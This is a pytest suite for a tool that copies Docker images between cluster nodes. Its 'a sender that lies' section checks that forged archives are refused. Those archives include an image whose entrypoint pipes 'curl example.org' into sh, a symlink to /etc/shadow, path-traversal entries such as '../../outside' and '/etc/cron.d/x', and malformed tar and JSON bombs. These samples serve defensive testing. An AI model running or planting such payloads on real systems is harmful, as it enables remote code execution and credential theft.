"""Copies of images between two real workers, and what a sender that lies can do to the receiver: nothing."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import os
import random
import sys
import tarfile
import threading
import time
import tracemalloc
from types import SimpleNamespace
from typing import Any

import pytest

from sparkcluster.errors import LayersAbsent, StageError
from sparkcluster.hosts import program
from sparkcluster.hosts.fleet import Fleet
from sparkcluster.node import docker_copy, image_record
from sparkcluster.node.image_archive import Archive, Saved
from sparkcluster.node.wire import Failed
from sparkcluster.staging.again import Step
from sparkcluster.staging.begin import Files
from sparkcluster.staging.job import Job
from sparkcluster.topology.build import build
from tests.unit.staging.archives import ImageMade, sha256, tar
from tests.unit.staging.world import on_this_machine

IMAGE = ImageMade([b"layer" * 500_000, b"other layer" * 1000])
SMALL = ImageMade([b"one" * 300, b"two" * 300])


@pytest.fixture
def pair(node, lease):
    """A sender and a receiver."""
    return node("a"), node("b")


@pytest.fixture
def move(lease, spark, cluster):
    """Copies from one node to another by a worker on each; the bytes that moved, and the ID that the receiver has."""
    step = Step("stage image", lambda _: lease.document(), lambda: False)

    def move(source, target, sending, receiving):
        nodes, size = {source.name: source, target.name: target}, max(1, receiving["bytes"])
        facts = {
            name: on_this_machine(spark({"enp1s0f0np0": f"127.1.0.{place}/24"}, management=f"127.2.0.{place}/24"))
            for place, name in enumerate(sorted(nodes), 11)
        }
        requests = {
            name: {**request, "root": f"{name} {request['reference']}", "images_dir": str(nodes[name].home),
                   "source": source.name}
            for name, request in ((source.name, sending), (target.name, receiving))
        }  # fmt: skip
        files = [{"path": "image", "size": size, "mtime": 0, "sha256": None, "links": []}]
        topology = build(cluster({name: name for name in sorted(nodes)}), facts)
        job = Job(step, Fleet(nodes), facts, topology, Files("image", requests, files))
        job.run()
        arrived = job.arrived.get(target.name)
        return SimpleNamespace(bytes=arrived.bytes if arrived else 0, image_id=job.image_ids().get(target.name))

    return move


def sends(node, archive: bytes, image: ImageMade = IMAGE) -> None:
    """The node has the image, and its Docker prints this as its archive."""
    node.add_image(image, "vllm:v1")
    (node.docker / "sent").write_bytes(archive)


def passed(
    data: bytes, image: ImageMade = SMALL, piece: int = 10_000, here: dict[str, Any] | None = None, **request: Any
) -> dict[str, bytes]:
    """What ``docker load`` gets to read of an archive: content by name. ``here`` is what the receiver has."""
    out = io.BytesIO()
    chunks = (data[at : at + piece] for at in range(0, len(data), piece))
    Archive(chunks, out.write).relay(image.request(**request), **(here or {}))
    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as archive:
        members = archive.getmembers()
        assert len({member.name for member in members}) == len(members)
        assert all(member.isreg() for member in members)
        return {member.name: archive.extractfile(member).read() for member in members}


def listed(data: bytes, **more: Any) -> list[dict[str, Any]]:
    """The images of which ``docker load`` learns."""
    found = json.loads(passed(data, **more)["manifest.json"])
    assert isinstance(found, list)
    return found


def test_an_image_is_loaded_under_its_own_name_and_sent_once(pair, move):
    pair[0].add_image(IMAGE, "vllm:v1")
    request = IMAGE.request()
    done = move(*pair, request, request)
    assert (done.bytes, done.image_id) == (len(tar(IMAGE.oci())), IMAGE.id)
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    (pair[1].docker / "refs" / "vllm:v1").unlink()
    assert move(*pair, request, request).bytes == 0
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    assert ["load"] in pair[1].docker_calls()
    assert pair[0].docker_calls().count(["save", IMAGE.id]) == 1


@pytest.mark.parametrize("entries", [IMAGE.legacy(["vllm:v1"]), IMAGE.oci(compressed=True)])
def test_every_layout_of_docker_save_is_loaded(pair, move, entries):
    """Before Docker 25, and that of containerd's image store, which knows the image by another ID."""
    sends(pair[0], tar(entries))
    request = IMAGE.request(config=None)
    assert move(*pair, request, {**request, "image_id": "sha256:" + "0" * 64}).image_id == IMAGE.id
    assert pair[1].images() == {"vllm:v1": IMAGE.id}


@pytest.mark.parametrize(("where", "mark"), [(0, "broken"), (1, "full")])
def test_a_full_disk_of_docker_names_its_node(pair, move, where, mark):
    pair[0].add_image(IMAGE, "vllm:v1")
    (pair[where].docker / mark).touch()
    with pytest.raises(StageError, match="no space left on device") as caught:
        move(*pair, IMAGE.request(), IMAGE.request())
    assert caught.value.node == "ab"[where]
    assert pair[1].images() == {}


def test_an_image_without_layers_is_copied(pair, move):
    empty = ImageMade([])
    pair[0].add_image(empty, "vllm:v1")
    assert move(*pair, empty.request(), empty.request()).image_id == empty.id


def test_an_image_that_cannot_be_tagged_is_reported_with_the_command(pair, move):
    pair[0].add_image(SMALL, "vllm:v1")
    (pair[1].docker / "untaggable").touch()
    with pytest.raises(StageError, match=r"docker tag: Error response from daemon: invalid reference format"):
        move(*pair, SMALL.request(), SMALL.request())


def test_an_image_that_cannot_be_unpacked_is_not_tagged(pair, move):
    """containerd's image store says so and exits with 0, as for a compressed layer that has another content."""
    pair[0].add_image(SMALL, "vllm:v1")
    (pair[1].docker / "unpackable").touch()
    with pytest.raises(StageError, match=r"docker load: Error unpacking image .*: wrong diff id"):
        move(*pair, SMALL.request(), SMALL.request())
    assert pair[1].images() == {}


def test_an_image_of_which_the_receiver_has_the_name_alone_is_sent(pair, move):
    """``docker load`` of a whole archive mends it."""
    pair[0].add_image(SMALL, "vllm:v1")
    (pair[1].docker / "images" / SMALL.id).write_bytes(tar(SMALL.oci()))
    (pair[1].docker / "nameless").touch()
    assert move(*pair, SMALL.request(), SMALL.request()).bytes > 0
    assert pair[1].images() == {"vllm:v1": SMALL.id}


def test_the_sender_gets_keep_alives_while_docker_load_reads_nothing():
    read, write = os.pipe()
    os.set_blocking(write, False)
    frames, rest = [], bytes(1 << 20)
    drain = threading.Timer(1.7, lambda: [os.read(read, 1 << 16) for _ in range(32)])
    drain.start()
    with os.fdopen(write, "wb", buffering=0) as stdin:
        docker_copy._feed(stdin, rest, lambda: frames.append(b""))
    drain.join()
    os.close(read)
    assert len(frames) >= 3
    assert set(frames) == {b""}


# a sender that lies

EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})


def with_manifest(entries, listed):
    return [(name, json.dumps(listed).encode() if name == "manifest.json" else data) for name, data in entries]


def test_tags_of_the_sender_move_nothing(pair, move):
    pair[1].add_image(SMALL, "registry/production:latest")
    sends(pair[0], tar(IMAGE.oci(["registry/production:latest", "vllm:v2"])))
    move(*pair, IMAGE.request(), IMAGE.request())
    assert pair[1].images() == {"registry/production:latest": SMALL.id, "vllm:v1": IMAGE.id}


def test_a_second_image_in_the_archive_is_not_loaded(pair, move):
    entries = dict([*EVIL.oci(), *IMAGE.oci()])
    both = [json.loads(dict(image.oci([tag]))["manifest.json"])[0] for image, tag in ((EVIL, "vllm:v1"), (IMAGE, "b"))]
    sends(pair[0], tar(with_manifest(entries.items(), both)))
    move(*pair, IMAGE.request(), IMAGE.request())
    assert pair[1].images() == {"vllm:v1": IMAGE.id}
    assert pair[1].image_ids() == {IMAGE.id}


@pytest.mark.parametrize("known", [IMAGE.id, None])
def test_the_same_layers_with_another_configuration_are_refused(pair, move, known):
    """Whether or not the hash of the configuration is known, which with containerd's image store it is not."""
    sends(pair[0], tar(EVIL.oci(["vllm:v1"])))
    with pytest.raises(StageError, match=r"stage image on b from a: the image's archive is that") as caught:
        move(*pair, IMAGE.request(), IMAGE.request(config=known))
    assert caught.value.hint == "docker image rm --force IMAGE   on a, then run this again"
    assert (pair[1].images(), pair[1].image_ids()) == ({}, set())


def test_a_configuration_of_the_same_effect_is_refused_where_its_bytes_are_known():
    other = dataclasses.replace(SMALL, config={**SMALL.config, "Labels": {"a": "b"}})
    assert listed(tar(other.oci()), config=None)
    with pytest.raises(Failed, match="that of another image"):
        passed(tar(other.oci()))


def test_an_image_that_the_receiver_has_is_compared_before_it_gets_the_name(pair, move):
    """Whoever says that an ID of the receiver's is the image of the playbook has to know what is in it."""
    pair[1].add_image(SMALL, "registry/production:latest")
    request = SMALL.request(layers=IMAGE.diffs)
    with pytest.raises(StageError, match=f"received {SMALL.id} instead of {SMALL.id}"):
        move(*pair, request, request)
    assert pair[1].images() == {"registry/production:latest": SMALL.id}


def test_another_image_of_the_same_name_is_refused_and_tells_nothing_more_to_docker(pair, move):
    sends(pair[0], tar(SMALL.legacy(["vllm:v1"])))
    with pytest.raises(StageError, match="archive is that of another image"):
        move(*pair, IMAGE.request(), IMAGE.request())
    received = pair[1].docker / "received"
    assert not received.exists() or b"manifest.json" not in received.read_bytes()
    assert (pair[1].images(), pair[1].image_ids()) == ({}, set())


def test_an_archive_without_end_is_refused(pair, move, set_source):
    real = program.source
    set_source(
        lambda module, engine: real(module, engine).replace("_SPARE_BYTES = 4, 1 << 30", "_SPARE_BYTES = 4, 1 << 20")
    )
    sends(pair[0], tar([*SMALL.oci(), ("more", b"x" * (8 << 20))]), image=SMALL)
    with pytest.raises(StageError, match="archive is larger than the image"):
        move(*pair, SMALL.request(), SMALL.request(size=1))


def link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.linkname, info.type = target, kind
    return info


def sized(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT)


def extended(text: bytes, size: int | None = None) -> bytes:
    info = tarfile.TarInfo("pax")
    info.type, info.size = tarfile.XHDTYPE, len(text) if size is None else size
    return info.tobuf(tarfile.GNU_FORMAT) + text + bytes(-len(text) % 512)


LAYER = "blobs/sha256/" + SMALL.diffs[0][7:]
CONFIG = "blobs/sha256/" + SMALL.id[7:]
HONEST = tar(SMALL.oci())
WITHOUT = [entry for entry in SMALL.oci() if entry[0] != LAYER]
BARE = [(CONFIG, SMALL.text)]


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (tar([entry for entry in SMALL.legacy() if "layer" not in entry[0]]), "lacks a layer"),
        (tar([*WITHOUT, (LAYER, b"evil" * 225)]), "with another hash"),
        (tar([*SMALL.oci(), (LAYER, SMALL.layers[0])]), "twice"),
        (tar([*SMALL.legacy(), (sha256(b"0") + "/layer.tar", b"evil")]), "twice"),
        (tar([(link(LAYER, "/etc/shadow", tarfile.SYMTYPE), b""), *BARE]), "lacks a layer"),
        (tar([(link(LAYER, CONFIG, tarfile.LNKTYPE), b""), *BARE]), "lacks a layer"),
        (tar([entry for entry in SMALL.legacy() if entry[0] != SMALL.id[7:] + ".json"]), "another image"),
        (b"", "truncated"),
        (HONEST[: len(HONEST) // 2], "truncated"),
        (bytes(1024), "another image"),
        (b"not a tar" * 1000, "damaged"),
        (gzip.compress(HONEST), "damaged"),
        (sized(LAYER, 1 << 60) + b"x" * 10_000, "truncated"),
        (sized("other", 1 << 60) + b"x" * 10_000, "truncated"),
        (sized(LAYER, -512) + HONEST, "header of -512 bytes"),
        (extended(b"", 1 << 40) + HONEST, "header of 1099511627776 bytes"),
        (extended(b"", -1) + HONEST, "header of -1 bytes"),
        (extended(b"20 size=99999999999\n") + HONEST, "truncated"),
        (tar([(f"{number:064x}/layer.tar", b"%d" % number) for number in range(2_001)]), "more than 2000 files"),
    ],
)
def test_a_falsified_archive_is_refused(data, said):
    with pytest.raises(Failed, match=said) as caught:
        passed(data)
    assert caught.value.kind == "archive"


@pytest.mark.parametrize(
    ("absent", "count"),
    [({LAYER}, 1), ({CONFIG}, 1), ({CONFIG, *("blobs/sha256/" + diff[7:] for diff in SMALL.diffs)}, 3)],
)
def test_an_archive_without_the_files_that_it_names_is_told_from_one_of_another_image(absent, count):
    """What ``docker save`` of containerd's store writes of an image whose layers it has compressed otherwise."""
    with pytest.raises(Failed, match=f"the image's archive lacks {count} of the files that it names") as caught:
        passed(tar([entry for entry in SMALL.oci() if entry[0] not in absent]), config=None)
    assert caught.value.kind == "blobs"


def test_platforms_that_were_not_pulled_and_attestations_change_nothing():
    """An index of two platforms: of the other one, containerd's store has neither manifest nor layers."""
    foreign = {"digest": "sha256:" + "f" * 64, "size": 7, "platform": {"architecture": "amd64", "os": "linux"}}
    inner = json.dumps({"schemaVersion": 2, "manifests": [foreign, foreign]}).encode()
    statement, empty = b'{"predicate": {}}', b'{"architecture": "unknown", "config": {}, "rootfs": {"type": "layers"}}'
    described = {"digest": "sha256:" + sha256(empty), "size": len(empty)}
    layers = [{"digest": "sha256:" + sha256(statement), "size": len(statement)}]
    attestation = json.dumps({"schemaVersion": 2, "config": described, "layers": layers}).encode()
    more = [(f"blobs/sha256/{sha256(data)}", data) for data in (inner, statement, empty, attestation)]
    expected = listed(tar(SMALL.oci(compressed=True)), config=None)
    assert listed(tar([*more, *SMALL.oci(compressed=True)]), config=None) == expected
    without = [entry for entry in more if entry[1] != statement]
    assert listed(tar([*SMALL.oci(compressed=True), *without]), config=None) == expected


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"Loaded image ID: {SMALL.id}", SMALL.id),
        (f"Loaded image: {SMALL.id}\n", SMALL.id),
        ("Loaded image: vllm/vllm-openai:v0.24.0", None),
        ("", None),
    ],
)
def test_the_id_that_docker_load_prints(text, found):
    assert docker_copy.loaded(text) == found


@pytest.mark.parametrize(
    "text",
    [
        b"{",
        b"{" * 100_000,
        b'{"rootfs": ' + b"9" * 3_000_000 + b"}",
        b'{"rootfs": ' + b"[" * 100_000,
        *(
            json.dumps({"rootfs": rootfs, "config": config}).encode()
            for rootfs, config in (
                ([], {}), ({"diff_ids": 7}, {}), ({"diff_ids": SMALL.diffs}, []), ({"diff_ids": SMALL.diffs}, "x"),
                ({"diff_ids": SMALL.diffs}, {"Env": 7}), ({"diff_ids": SMALL.diffs}, {"Env": [1, "a"]}),
            )
        ),
        *(
            json.dumps({"config": config, "layers": layers}).encode()
            for config, layers in ((7, []), ({"digest": SMALL.id}, 7), ({"digest": SMALL.id}, [[]]), ({"digest": SMALL.id}, [{}]))
        ),
    ],
)  # fmt: skip
def test_documents_of_any_shape_are_no_image(text):
    blobs = [(f"blobs/sha256/{sha256(data)}", data) for data in (text, *SMALL.layers)]
    with pytest.raises(Failed, match="another image"):
        passed(tar(blobs), config=None)
    passed(tar([*blobs, (CONFIG, SMALL.text)]), config=None)


def test_a_number_of_a_million_digits_takes_no_time():
    """Python 3.10 and older read it in minutes."""
    text = b'{"rootfs": ' + b"9" * 1_000_000 + b"}"
    limit, began = sys.get_int_max_str_digits(), time.process_time()
    sys.set_int_max_str_digits(0)
    try:
        with pytest.raises(Failed):
            passed(tar([(f"blobs/sha256/{sha256(text)}", text)]))
    finally:
        sys.set_int_max_str_digits(limit)
    assert time.process_time() - began < 2


@pytest.mark.parametrize("what", ["layer", "documents"])
def test_what_passes_is_not_kept_in_memory(what):
    if what == "layer":
        chunks = [sized(LAYER, 64 << 20), *[bytes(1 << 20)] * 64, bytes(1024)]
    else:
        texts = [json.dumps({"layers": f"{number:03}" + "x" * 3_000_000}).encode() for number in range(10)]
        chunks = [tar((f"blobs/sha256/{sha256(text)}", text) for text in texts)]
    tracemalloc.start()
    with pytest.raises(Failed):
        Archive(iter(chunks), lambda _: None).relay(SMALL.request())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 24 << 20


def test_large_documents_of_other_kinds_hide_no_configuration():
    """Bills of materials, which some images have for every platform."""
    texts = [json.dumps({"predicate": f"{number:03}" + "x" * 3_000_000}).encode() for number in range(3)]
    assert listed(tar([*((f"blobs/sha256/{sha256(text)}", text) for text in texts), *SMALL.oci()]))


def test_only_layers_and_documents_pass():
    entries = [
        ("../../outside", b"x"), ("/etc/cron.d/x", b"x"), ("repositories", b'{"a": {"latest": "x"}}'),
        (link("blobs/sha256", "/etc", tarfile.SYMTYPE), b""), (LAYER + "\n", b"x"), (LAYER + "/x", b"x"),
        (LAYER.upper(), b"x"), (tarfile.TarInfo("x" * 300), b"long name"), *SMALL.oci(["evil:latest"]),
        ("blobs/sha256/" + sha256(b"more"), b"more"),
    ]  # fmt: skip
    found = passed(tar(entries, tarfile.GNU_FORMAT))
    names = {"manifest.json", "index.json", "oci-layout", "blobs/sha256/" + sha256(b"more")}
    assert found.keys() == names | {name for name, _ in SMALL.oci() if not name.endswith("/")}
    assert json.loads(found["manifest.json"]) == [
        {"Config": CONFIG, "RepoTags": None, "Layers": ["blobs/sha256/" + diff[7:] for diff in SMALL.diffs]}
    ]
    manifest = SMALL.manifest(SMALL.layers)
    assert json.loads(found["index.json"]) == {
        "schemaVersion": 2,
        "manifests": [
            {
                "mediaType": json.loads(manifest)["mediaType"],
                "digest": "sha256:" + sha256(manifest),
                "size": len(manifest),
            }
        ],
    }


def test_a_layer_that_comes_twice_is_sent_once_and_listed_twice():
    image = ImageMade([b"empty", b"full", b"empty"])
    for entries in (image.legacy(["x"]), image.oci(["x"])):
        layers = listed(tar(entries), image=image)[0]["Layers"]
        assert len(layers) == 3
        assert layers[0] == layers[2] != layers[1]


@pytest.mark.parametrize("piece", [1, 511, 512, 513, 1 << 20])
def test_pieces_of_any_size_and_extended_headers_are_read(piece):
    """Docker writes an extended header for layers over 8 GiB."""
    entries = [(f"blobs/sha256/{sha256(data)}", data) for data in (*SMALL.layers, SMALL.text)]
    first = tar(entries[:1])[: 512 + 1024]
    assert first[:13] == b"blobs/sha256/"
    small = tarfile.TarInfo(entries[0][0])
    whole = extended(b"13 size=900\n") + small.tobuf() + first[512:] + tar(entries[1:])
    assert passed(whole, piece=piece)[entries[0][0]] == SMALL.layers[0]


def test_a_changed_archive_is_refused_or_loads_the_same():
    """Bytes that are changed, lost or repeated, wherever they are."""
    chance = random.Random(8)
    refused = 0
    for _ in range(1500):
        data = bytearray(HONEST)
        for _ in range(chance.randint(1, 4)):
            at, size = chance.randrange(len(data)), chance.choice((1, 1, 1, 8, 512, 1024))
            change = chance.randrange(3)
            data[at : at + size] = (chance.randbytes(size), b"", data[at : at + 2 * size])[change]
        try:
            found = listed(bytes(data))
        except Failed as error:
            refused += error.kind == "archive"
            continue
        assert found == listed(HONEST)
    assert 300 < refused < 1500


# an image of which the receiver has layers

OLD = ImageMade([b"base" * 200_000, b"middle" * 200_000, b"top" * 1000])
NEW = ImageMade([*OLD.layers[:2], b"new top" * 1000])


def having(image: ImageMade, *present: bytes) -> dict[str, Any]:
    """Of each layer of ``image`` the file that the receiver has, without one where it is not ``present``."""
    return {"have": ["" if layer in present else None for layer in image.layers]}


def test_only_the_layers_that_the_receiver_lacks_are_sent(pair, move):
    """Both engines store layers by their content; the other image is still whole afterwards."""
    pair[0].add_image(NEW, "vllm:v1")
    pair[1].add_image(OLD, "vllm:v0")
    request = NEW.request(**having(NEW, *OLD.layers))
    done = move(*pair, request, request)
    assert done.image_id == NEW.id
    assert done.bytes < len(NEW.layers[2]) + 20_000
    assert pair[1].images() == {"vllm:v0": OLD.id, "vllm:v1": NEW.id}
    pair[0].docker.joinpath("images", NEW.id).unlink()
    assert move(pair[1], pair[0], NEW.request(), NEW.request()).bytes > 2_000_000


def test_between_stores_of_containerd_files_are_left_out_wherever_they_are(pair, move):
    """By their own hash, which both have recorded of the first copy: also above a layer that differs."""
    for node in pair:
        (node.docker / "containerd").touch()
    other = ImageMade([b"new base" * 1000, *OLD.layers[1:]])
    pair[0].add_image(OLD, "vllm:v0")
    move(*pair, OLD.request("vllm:v0", config=None), OLD.request("vllm:v0", config=None))
    pair[0].add_image(other, "vllm:v1")
    files = [sha256(gzip.compress(layer, mtime=0)) for layer in other.layers]
    request = other.request(config=None, have=[None, *files[1:]])
    done = move(*pair, request, request)
    assert done.image_id == other.id
    whole = len((pair[0].docker / "images" / other.id).read_bytes())
    left_out = sum(len(gzip.compress(layer, mtime=0)) for layer in other.layers[1:])
    assert whole - left_out - 2048 <= done.bytes <= whole - left_out


def test_a_compressed_image_reaches_an_engine_that_stores_layers_by_their_content_without_those_it_has(pair, move):
    """The sender knows its files from the first copy."""
    (pair[0].docker / "containerd").touch()
    pair[0].add_image(OLD, "vllm:v0")
    move(*pair, OLD.request("vllm:v0", config=None), OLD.request("vllm:v0", config=None))
    pair[0].add_image(NEW, "vllm:v1")
    request = NEW.request(config=None, **having(NEW, *OLD.layers[:2]))
    done = move(*pair, request, request)
    assert done.image_id == NEW.id
    whole = len((pair[0].docker / "images" / NEW.id).read_bytes())
    assert done.bytes <= whole - sum(len(gzip.compress(layer, mtime=0)) for layer in OLD.layers[:2])
    assert pair[1].images() == {"vllm:v0": OLD.id, "vllm:v1": NEW.id}


def test_an_engine_before_docker_25_sends_every_layer(pair, move):
    sends(pair[0], tar(NEW.legacy(["vllm:v1"])), image=NEW)
    pair[1].add_image(OLD, "vllm:v0")
    request = NEW.request(**having(NEW, *OLD.layers))
    assert move(*pair, request, request).bytes == len(tar(NEW.legacy(["vllm:v1"])))
    assert pair[1].images() == {"vllm:v0": OLD.id, "vllm:v1": NEW.id}


def test_layers_that_are_gone_since_the_controller_looked_are_an_error_of_their_own(pair, move):
    """Which makes the controller copy all of them."""
    pair[0].add_image(NEW, "vllm:v1")
    pair[1].add_image(SMALL, "other:v1")
    request = NEW.request(**having(NEW, *OLD.layers))
    with pytest.raises(LayersAbsent, match="lacks files that are not here either"):
        move(*pair, request, request)
    assert pair[1].image_ids() == {SMALL.id}


def test_an_image_that_does_not_load_without_what_is_there_is_an_error_of_its_own(pair, move):
    """As containerd's store says it of a file that was removed from it."""
    pair[0].add_image(NEW, "vllm:v1")
    pair[1].add_image(OLD, "vllm:v0")
    (pair[1].docker / "unpackable").touch()
    request = NEW.request(**having(NEW, *OLD.layers))
    with pytest.raises(LayersAbsent, match="docker load: Error unpacking"):
        move(*pair, request, request)
    assert pair[1].images() == {"vllm:v0": OLD.id}


def without(image: ImageMade, *places: int, compressed: bool = False) -> bytes:
    """The archive of ``image`` without its layers at ``places``."""
    layers = [gzip.compress(layer, mtime=0) if compressed else layer for layer in image.layers]
    gone = {"blobs/sha256/" + sha256(layers[place]) for place in places}
    return tar([entry for entry in image.oci(compressed=compressed) if entry[0] not in gone])


BLOBS = [sha256(gzip.compress(layer, mtime=0)) for layer in NEW.layers]


@pytest.mark.parametrize(
    ("absent", "compressed", "here"),
    [
        ((0, 1), False, {"prefix": 2}),
        ((0,), False, {"prefix": 2}),
        ((), False, {"prefix": 3}),
        ((0, 1, 2), False, {"prefix": 3}),
        ((0, 1), True, {"prefix": 2}),
        ((1,), True, {"blobs": {BLOBS[1]: NEW.diffs[1]}}),
        ((0, 2), True, {"blobs": {BLOBS[0]: NEW.diffs[0], BLOBS[2]: NEW.diffs[2]}}),
        ((1,), False, {"blobs": {NEW.diffs[1][7:]: NEW.diffs[1]}}),
    ],
)
def test_layers_that_the_receiver_has_may_be_absent(absent, compressed, here):
    found = passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here)
    (image,) = json.loads(found["manifest.json"])
    names = BLOBS if compressed and absent != () else [diff[7:] for diff in NEW.diffs]
    assert image["Layers"] == ["blobs/sha256/" + name for name in names]


@pytest.mark.parametrize(
    ("absent", "compressed", "here"),
    [
        ((0, 1, 2), False, {"prefix": 2}),
        ((2,), False, {"prefix": 2}),
        ((1,), True, {"prefix": 1}),
        ((0, 1), True, {"blobs": {BLOBS[1]: NEW.diffs[1]}}),
        ((1,), True, {"blobs": {BLOBS[1]: NEW.diffs[0]}}),
        ((1,), True, {"blobs": {NEW.diffs[1][7:]: NEW.diffs[1]}}),
        ((1,), False, {"blobs": {BLOBS[1]: NEW.diffs[1]}}),
    ],
)
def test_no_other_layer_may_be_absent(absent, compressed, here):
    """Also none that the receiver has as another layer, or as a file that the manifest does not name."""
    with pytest.raises(Failed, match="lacks files that are not here either") as caught:
        passed(without(NEW, *absent, compressed=compressed), image=NEW, config=None, here=here, have=[""] * 3)
    assert caught.value.kind == "partial"


@pytest.mark.parametrize("here", [{"prefix": 3}, {"blobs": dict(zip(BLOBS, NEW.diffs, strict=True))}])
def test_what_comes_although_it_may_be_absent_is_checked_all_the_same(here):
    entries = [(name, b"evil" if name == LAYERS[0] else data) for name, data in NEW.oci()]
    with pytest.raises(Failed, match="with another hash"):
        passed(tar(entries), image=NEW, here=here)
    evil = dataclasses.replace(NEW, config={**NEW.config, "Entrypoint": ["/bin/sh"]})
    with pytest.raises(Failed, match="lacks files that are not here either"):
        passed(without(evil, 0, 1), image=NEW, config=None, here=here, have=[""] * 3)


LAYERS = ["blobs/sha256/" + diff[7:] for diff in NEW.diffs]


def sent(data: bytes, dropped: set[str], piece: int = 10_000) -> tuple[bytes, Saved]:
    """What the sender lets pass."""
    out = io.BytesIO()
    saved = Saved((data[at : at + piece] for at in range(0, len(data), piece)), out.write)
    saved.send(dropped)
    return out.getvalue(), saved


@pytest.mark.parametrize("form", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
@pytest.mark.parametrize("piece", [1, 511, 513, 1 << 20])
def test_a_sender_passes_on_every_byte_but_those_of_the_files_it_leaves_out(piece, form):
    image = ImageMade([b"one" * 300, b"two" * 300, b"\0" * 2048])
    whole = tar(image.oci(["a:b"]), form)
    assert sent(whole, set(), piece)[0] == whole
    found, saved = sent(whole, {image.diffs[0][7:], image.diffs[2][7:], "f" * 64}, piece)
    rest = [entry for entry in image.oci(["a:b"]) if entry[0][-64:] not in {diff[7:] for diff in image.diffs[::2]}]
    assert found.rstrip(b"\0") == tar(rest, form).rstrip(b"\0")
    assert saved.documents.files(image.request()) == [
        [diff[7:], size] for diff, size in zip(image.diffs, (900, 900, 2048), strict=True)
    ]


def test_a_sender_leaves_out_a_layer_with_an_extended_header_and_all():
    """Docker writes one for layers over 8 GiB."""
    name = "blobs/sha256/" + SMALL.diffs[0][7:]
    rest = tar([entry for entry in SMALL.oci() if entry[0] != name])
    header = extended(b"13 size=900\n") + tarfile.TarInfo(name).tobuf()
    assert sent(header + SMALL.layers[0] + bytes(124) + rest, {SMALL.diffs[0][7:]})[0] == rest


def test_the_layer_that_is_left_out_is_called_by_all_that_is_left_out_alone():
    """One that an image has twice, of which the second is above a layer that the receiver lacks."""
    a, b, c = ("a" * 64, 1), ("b" * 64, 2), ("c" * 64, 3)
    assert image_record.dropped(["", "", None], [a, b, c]) == {a[0], b[0]}
    assert image_record.dropped(["", "", None, None], [a, b, c, a]) == {b[0]}
    assert image_record.dropped(["", b[0], c[0]], [(None, 0), (None, 0), b]) == {b[0]} - {b[0]}
    assert image_record.dropped([b[0], None], [(None, 0), (None, 0)]) == {b[0]}
    assert image_record.dropped([b[0]], [a]) == set()
    assert image_record.dropped(["", ""], [a]) == set()
    assert image_record.dropped([""], []) == set()


def test_a_complete_archive_of_an_old_docker_is_loaded_where_layers_might_have_been_absent():
    """It has no manifest, by which containerd's store would find those that it has."""
    blobs = {"blobs": dict(zip(BLOBS, NEW.diffs, strict=True))}
    (image,) = listed(tar(NEW.legacy()), image=NEW, config=None, here=blobs, have=[*BLOBS[:2], None])
    assert [name.rpartition("/")[2] for name in image["Layers"]] == ["layer.tar"] * 3


def test_what_lacks_a_layer_that_was_to_come_is_not_sent_once_more():
    with pytest.raises(Failed, match="lacks 1 of the files that it names") as caught:
        passed(without(NEW, 2), image=NEW, config=None, here={"prefix": 2}, have=["", "", None])
    assert caught.value.kind == "blobs"


@pytest.mark.parametrize(
    ("exit_code", "text", "absent", "kind"),
    [
        (1, "open /var/lib/docker/tmp/x/blobs/sha256/7d: no such file or directory", 1, "partial"),
        (0, "Error unpacking image sha256:12: wrong diff id calculated on extraction", 1, "partial"),
        (1, "Error unpacking image sha256:12: wrong diff id calculated on extraction", 0, "docker"),
        (1, "write /layer.tar: no space left on device", 1, "disk"),
        (1, "Cannot connect to the Docker daemon at unix:///var/run/docker.sock", 1, "docker"),
        (1, "error during connect: Post http://docker: EOF", 1, "docker"),
        (-9, "no output", 1, "docker"),
    ],
)
def test_only_what_may_succeed_with_all_layers_is_sent_once_more(exit_code, text, absent, kind):
    assert docker_copy._kind(exit_code, text, absent) == kind


def test_images_that_are_recorded_at_once_are_all_recorded(tmp_path):
    state, ready = str(tmp_path / "state"), threading.Barrier(8)
    request = {"state_dir": state, "reference": "x", "cluster": "c", "layers": SMALL.diffs}

    def record(number):
        ready.wait()
        image_record.record(request, f"sha256:{number}", [["a" * 64, 1], ["b" * 64, 2]])

    threads = [threading.Thread(target=record, args=(number,)) for number in range(8)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()
    kept = json.loads((tmp_path / "state" / "images" / "layers.json").read_text())
    assert kept.keys() == {f"sha256:{number}" for number in range(8)}
